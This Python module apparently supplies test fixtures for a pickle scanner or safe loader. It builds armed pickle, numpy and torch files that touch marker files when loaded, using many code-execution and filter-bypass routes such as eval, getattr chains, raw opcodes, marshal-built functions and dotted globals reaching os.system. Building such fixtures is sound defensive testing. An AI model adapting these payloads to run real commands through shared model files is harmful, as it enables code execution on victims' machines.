"""Harmless but armed pickles: each makes a marker file when it is read by a reader that does what it says."""

import collections
import functools
import importlib
import io
import operator
import os
import pickle
import posix
import runpy
import shutil
import subprocess

import numpy as np
import torch


class Call:
    """Pickles as a call of a function."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args

    def __call__(self):
        """Only here because pickle wants what it calls to be callable."""


class Filled(Call):
    """Pickles as a call whose result is then given a state."""

    def __init__(self, function, args, state):
        super().__init__(function, *args)
        self.state = state

    def __reduce__(self):
        return self.function, self.args, self.state


def raw(module, name, *, dotted=False):
    """Instructions that push a global without asking whether there is one."""
    if dotted:
        return b"".join(b"\x8c" + bytes([len(word)]) + word.encode() for word in (module, name)) + b"\x93"
    return f"c{module}\n{name}\n".encode()


def text(value):
    """Instructions that push a text."""
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def old_torch_file(content):
    """A torch file in the layout that storages inside pickles have."""
    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def armed_pickles(folder, marker):
    """By name: a pickle that makes the marker when it is obeyed.

    Args:
        folder: where files that some of them read are put.
        marker: from the name of a case to the file that it makes.
    """
    cases = {}

    def touch(name):
        return f"touch '{marker(name)}'"

    def case(name, content, protocol=4):
        cases[name] = content if isinstance(content, bytes) else pickle.dumps(content, protocol=protocol)

    def module(name):
        return Call(importlib.import_module, name)

    case("system", [{"id": Call(os.system, touch("system"))}], 0)
    case("posix", Call(posix.system, touch("posix")), 2)
    case("eval", Call(eval, f"__import__('os').system({touch('eval')!r})"))
    case("exec", Call(exec, f"open({marker('exec')!r}, 'w').close()"))
    case("subprocess", Call(subprocess.check_call, ["touch", marker("subprocess")]))
    case("getattr", Call(Call(getattr, module("os"), "system"), touch("getattr")))
    case("attrgetter", Call(Call(Call(operator.attrgetter, "system"), module("os")), touch("attrgetter")))
    case("methodcaller", Call(Call(operator.methodcaller, "system", touch("methodcaller")), module("os")))
    case("partial", Call(Call(functools.partial, os.system, touch("partial"))))
    case("state", Call(Filled(functools.partial, (print,), (os.system, (touch("state"),), {}, None))))
    case("map", Call(collections.deque, Call(map, os.system, [touch("map")])))
    case("shutil", Call(shutil.copy, __file__, marker("shutil")))
    script = folder / "script.py"
    script.write_text(f"open({marker('runpy')!r}, 'w').close()", encoding="utf-8")
    case("runpy", Call(runpy.run_path, str(script)))
    case("pty", raw("pty", "spawn") + b"]" + text("touch") + b"a" + text(marker("pty")) + b"a\x85R.")
    case("inst", b"(" + text(touch("inst")) + b"ios\nsystem\n.")
    case("obj", b"(" + raw("logging", "FileHandler") + text(marker("obj")) + b"o.")
    case("newobj", b"\x80\x02" + raw("logging", "FileHandler") + text(marker("newobj")) + b"\x85\x81" + b"(" + b"d0"
         + raw("os", "system") + text(touch("newobj")) + b"\x85R.")  # fmt: skip
    case("reconstructor", raw("copyreg", "_reconstructor") + raw("logging", "FileHandler")
         + raw("logging", "FileHandler") + text(marker("reconstructor")) + b"\x87R.")  # fmt: skip
    code = compile(f"open({marker('function')!r}, 'w').close()", "armed", "exec")
    marshalled = __import__("marshal").dumps(code)
    loaded = raw("marshal", "loads") + b"B" + len(marshalled).to_bytes(4, "little") + marshalled + b"\x85R"
    namespace = b"}" + text("__builtins__") + raw("builtins", "__dict__", dotted=True) + b"s"
    case("function", b"\x80\x04" + raw("types", "FunctionType") + loaded + namespace + b"\x86R)R.")
    dotted = raw("torch", "serialization.os.system", dotted=True)
    case("dotted", b"\x80\x04" + dotted + text(touch("dotted")) + b"\x85R.")
    numpy_dotted = raw("numpy", "testing._private.utils.os.system", dotted=True)
    case("numpy dotted", b"\x80\x04" + numpy_dotted + text(touch("numpy dotted")) + b"\x85R.")
    objects = np.empty(1, dtype=object)
    objects[0] = Call(os.system, touch("object array"))
    case("object array", {"2d": objects})
    stored = np.empty(1, dtype=object)
    stored[0] = Call(os.system, touch("numpy.load"))
    np.save(folder / "armed.npy", stored, allow_pickle=True)
    case("numpy.load", Call(np.load, str(folder / "armed.npy"), None, True))
    torch_file = folder / "armed.pth"
    torch_file.write_bytes(old_torch_file(Call(os.system, touch("torch.load"))))
    case("torch.load", Call(functools.partial(torch.load, weights_only=False), str(torch_file)))
    nested = old_torch_file(Call(os.system, touch("nested storage")))
    case("nested storage", {"audio": Call(torch.storage._load_from_bytes, nested)})
    inner = old_torch_file({"a": torch.zeros(2), "b": Call(posix.system, touch("nested tensor"))})
    case("nested tensor", [{"audio": Call(torch.storage._load_from_bytes, inner)}], 2)
    return cases
